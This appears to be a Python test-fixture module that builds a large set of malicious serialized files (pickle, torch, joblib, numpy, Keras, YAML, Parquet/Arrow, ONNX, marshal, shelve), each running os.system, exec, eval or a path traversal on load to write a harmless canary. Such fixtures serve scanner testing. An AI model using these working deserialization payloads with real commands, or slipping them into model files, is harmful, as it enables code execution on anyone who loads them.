"""Files that run code where somebody reads them with the usual call, by code; each writes the canary."""

from __future__ import annotations

import base64
import bz2
import gzip
import importlib._bootstrap_external as imports
import io
import json
import lzma
import marshal
import os
import pickle
import shelve
import struct
import subprocess
import tarfile
import timeit
import zipfile
import zlib
from collections.abc import Callable
from functools import partial
from pathlib import Path
from typing import Any

import cloudpickle
import dill
import joblib
import numpy as np
import pandas as pd
import pyarrow as pa
import pyarrow.parquet as pq
import torch
import yaml
from onnx import TensorProto, helper

READ_AS_ROWS = ("Parquet with an extension type", "Parquet with pickled metadata")  # sound tables, whose metadata nobody opens


class Calls:
    """Pickled, it is a call that writes the canary when it is read."""

    def __init__(self, function: Callable, *arguments: object) -> None:
        self.call = (function, arguments)

    def __reduce__(self):
        return self.call


def payloads(canary: Path) -> dict[str, bytes]:
    """All of them, by what they are."""
    plain = Calls(Path.write_text, canary, "ran")
    return {**pickles(canary, plain), **packed(plain), **models(canary, plain), **tables(plain), **others(canary)}


def pickles(canary: Path, plain: Calls) -> dict[str, bytes]:
    """Bare pickles: `pickle.loads` runs each."""
    command, code = f"touch '{canary}'", f"open({str(canary)!r}, 'w').close()"
    said = command.encode()
    made = {f"protocol {number}": pickle.dumps(plain, protocol=number) for number in range(6)}
    made |= {
        "os.system": pickle.dumps(Calls(os.system, command)),
        "subprocess": pickle.dumps(Calls(subprocess.call, ["touch", str(canary)])),
        "exec": pickle.dumps(Calls(exec, code)),
        "eval": pickle.dumps(Calls(eval, f"__import__('pathlib').Path({str(canary)!r}).touch()")),
        "open": pickle.dumps(Calls(open, str(canary), "w")),
        "timeit": pickle.dumps(Calls(timeit.timeit, code, "pass", timeit.default_timer, 1)),
        "partial": pickle.dumps(Calls(partial.__call__, partial(os.system, command))),
        "in a dict": pickle.dumps({"state_dict": {"weight": plain}}),
        "in a list": pickle.dumps([1, [2, [plain]]]),
        "twice": pickle.dumps(Calls(pickle.loads, pickle.dumps(plain))),
        "by hand, REDUCE": b"cos\nsystem\n(S'" + said + b"'\ntR.",
        "by hand, INST": b"(S'" + said + b"'\nios\nsystem\n.",
        "by hand, OBJ": b"(cos\nsystem\nS'" + said + b"'\no.",
        "by hand, STACK_GLOBAL": b"\x80\x04\x8c\x02os\x8c\x06system\x93\x8c" + bytes([len(said)]) + said + b"\x85R.",
        "cloudpickle of a function": cloudpickle.dumps(Calls(cloudpickle.loads, cloudpickle.dumps(plain))),
        "dill": dill.dumps({"model": Calls(os.system, command)}, protocol=2),
        "scikit-learn": pickle.dumps({"steps": [("scale", plain)], "_sklearn_version": "1.9.1"}),
        "broken after the call": pickle.dumps(plain)[:-1] + b"\xff\xff",
        "a second one behind a good one": pickle.dumps({"weight": 1}) + pickle.dumps(plain),
    }
    return made


def packed(plain: Calls) -> dict[str, bytes]:
    """A pickle in each kind of wrapping."""
    data = pickle.dumps(plain)
    return {
        "zlib": zlib.compress(data),
        "gzip": gzip.compress(data),
        "bz2": bz2.compress(data),
        "xz": lzma.compress(data),
        "zstd": bytes(pa.Codec("zstd").compress(data, asbytes=True)),
        "base64": base64.b64encode(data),
        "zip": _zip({"payload.pkl": data}),
        "zip in a zip": _zip({"inner.zip": _zip({"payload.pkl": data})}),
        "tar.gz": gzip.compress(_tar({"payload.pkl": data})),
        "7z, stored": _seven(data),
        "behind a safetensors header": struct.pack("<Q", 2) + b"{}" + data,
        "behind a Parquet mark": b"PAR1" + data + b"PAR1",
    }


def models(canary: Path, plain: Calls) -> dict[str, bytes]:
    """What training libraries save."""
    data = pickle.dumps(plain)
    made = {name: io.BytesIO() for name in ("joblib", "joblib, packed", "torch.save", "torch.save of old", ".npy", ".npz", ".npz, packed")}
    joblib.dump({"model": plain}, made["joblib"])
    joblib.dump({"model": plain}, made["joblib, packed"], compress=("zlib", 3))
    torch.save({"weight": torch.zeros(2), "more": plain}, made["torch.save"])
    torch.save({"weight": torch.zeros(2), "more": plain}, made["torch.save of old"], _use_new_zipfile_serialization=False)
    array = np.array([plain], dtype=object)
    np.save(made[".npy"], array, allow_pickle=True)
    np.savez(made[".npz"], weight=np.zeros(2), more=array)
    np.savez_compressed(made[".npz, packed"], weight=np.zeros(2), more=array)
    code = marshal.dumps(compile(f"open({str(canary)!r}, 'w').close()", "layer", "exec"))
    function = {"class_name": "__lambda__", "config": {"code": base64.b64encode(code).decode()}}
    layers = [{"class_name": "Lambda", "config": {"function": function}}]
    config = json.dumps({"class_name": "Sequential", "config": {"layers": layers}}).encode()
    graph = helper.make_graph([], "g", [], [], [helper.make_tensor("w", TensorProto.FLOAT, [1], [0.0])])
    weight = graph.initializer[0]
    weight.ClearField("float_data")
    weight.data_location = TensorProto.EXTERNAL
    weight.external_data.add(key="location", value=f"../../../../{canary}")
    return {name: stream.getvalue() for name, stream in made.items()} | {
        "torch zip by hand": _zip({"archive/data.pkl": data, "archive/version": b"3\n"}),
        "torch tar": _tar({"sys_info": pickle.dumps({}), "pickle": data}),
        "TorchScript": _zip({"m/data.pkl": data, "m/constants.pkl": data, "m/code/__torch__.py": b"import os\n", "m/version": b"3\n"}),
        "Keras, a Lambda layer": _zip({"config.json": config, "metadata.json": b"{}", "model.weights.h5": b"\x89HDF\r\n\x1a\n"}),
        "Keras, its YAML": b"!!python/object/apply:os.system ['touch " + str(canary).encode() + b"']\n" + config,
        "ONNX with data elsewhere": helper.make_model(graph).SerializeToString(),
    }


def tables(plain: Calls) -> dict[str, bytes]:
    """Tables with pickles in them: pandas' own form, and Arrow's types and metadata that older readers unpickle (CVE-2023-47248)."""
    data = pickle.dumps(plain)
    frame = io.BytesIO()
    pd.DataFrame({"text": [plain]}, dtype=object).to_pickle(frame)
    zipped = io.BytesIO()
    pd.DataFrame({"label": [plain]}, dtype=object).to_pickle(zipped, compression="zip")
    words = {"text": [f"row {number}" for number in range(100)], "label": ["no", "yes"] * 50}
    kind = {"ARROW:extension:name": "arrow.py_extension_type", "ARROW:extension:metadata": data}
    extended = pa.schema([pa.field("text", pa.string()), pa.field("label", pa.string()), pa.field("x", pa.binary(), metadata=kind)])
    made = pa.table({**words, "x": [data] * 100}, schema=extended)
    columns, streamed, told = io.BytesIO(), io.BytesIO(), io.BytesIO()
    pq.write_table(made, columns)
    with pa.ipc.new_stream(streamed, extended) as stream:
        stream.write_table(made)
    pq.write_table(pa.table(words).replace_schema_metadata({"pandas": data, "model": data}), told)
    return {
        "pandas": frame.getvalue(),
        "pandas, packed": zipped.getvalue(),
        "Parquet with an extension type": columns.getvalue(),
        "Parquet with pickled metadata": told.getvalue(),
        "Arrow with an extension type": streamed.getvalue(),
    }


def others(canary: Path) -> dict[str, bytes]:
    """What runs code without `pickle.load` in sight."""
    command = f"touch '{canary}'"
    code = compile(f"open({str(canary)!r}, 'w').close()", "evil.py", "exec")
    place = canary.with_name("shelf")
    with shelve.open(str(place), "n") as shelf:
        shelf["about"] = "a model"
        shelf["model"] = Calls(os.system, command)
    written = [path for path in canary.parent.glob("shelf*") if path.stat().st_size]
    kept = max(written, key=lambda path: path.stat().st_size).read_bytes()
    for path in written:
        path.unlink()
    return {
        "YAML with a tag": f"!!python/object/apply:os.system [{command!r}]\n".encode(),
        "YAML with another call": f"model: !!python/object/apply:subprocess.call [[touch, {str(canary)!r}]]\n".encode(),
        "jsonpickle": json.dumps({"py/reduce": [{"py/function": "posix.system"}, {"py/tuple": [command]}]}).encode(),
        "marshal": marshal.dumps(code),
        ".pyc": bytes(imports._code_to_timestamp_pyc(code)),
        "shelve": kept,
    }


def readers() -> dict[str, Callable[[bytes], Any]]:
    """How somebody reads some of these kinds, so that they run; by the beginning of the title."""
    unpickle = pickle.loads
    bare = ("protocol", "os.", "subprocess", "exec", "eval", "open", "timeit", "partial", "in a", "twice", "by hand")
    return {
        **dict.fromkeys((*bare, "cloudpickle", "dill", "scikit-learn"), unpickle),
        "a second": lambda data: [pickle.load(stream) for stream in [io.BytesIO(data)] for _ in range(2)],
        "zlib": lambda data: unpickle(zlib.decompress(data)),
        "gzip": lambda data: unpickle(gzip.decompress(data)),
        "joblib": lambda data: joblib.load(io.BytesIO(data)),
        "torch.save": lambda data: torch.load(io.BytesIO(data), weights_only=False),
        ".np": _numpy,
        "YAML with": yaml.unsafe_load,
        "marshal": lambda data: exec(marshal.loads(data)),
        ".pyc": lambda data: exec(marshal.loads(data[16:])),
        "pandas": lambda data: pd.read_pickle(io.BytesIO(data), compression="zip" if data[:2] == b"PK" else None),
    }


def _numpy(data: bytes) -> object:
    found = np.load(io.BytesIO(data), allow_pickle=True)
    return found["more"] if data[:2] == b"PK" else found


def _zip(contents: dict[str, bytes]) -> bytes:
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w") as archive:
        for name, data in contents.items():
            archive.writestr(name, data)
    return made.getvalue()


def _tar(contents: dict[str, bytes]) -> bytes:
    made = io.BytesIO()
    with tarfile.open(fileobj=made, mode="w") as archive:
        for name, data in contents.items():
            entry = tarfile.TarInfo(name)
            entry.size = len(data)
            archive.addfile(entry, io.BytesIO(data))
    return made.getvalue()


def _seven(data: bytes) -> bytes:
    """A 7z archive of one stored file (7zFormat.txt of the LZMA SDK)."""
    size = bytes([0x80 | len(data) >> 8, len(data) & 0xFF])
    name = "p.pkl\0".encode("utf-16-le")
    streams = b"\x04\x06\0\x01\x09" + size + b"\0\x07\x0b\x01\0\x01\x01\0\x0c" + size + b"\0\0"
    header = b"\x01" + streams + b"\x05\x01\x11" + bytes([len(name) + 1]) + b"\0" + name + b"\0\0"
    start = struct.pack("<QQL", len(data), len(header), zlib.crc32(header))
    return b"7z\xbc\xaf\x27\x1c\0\x04" + struct.pack("<L", zlib.crc32(start)) + start + data + header
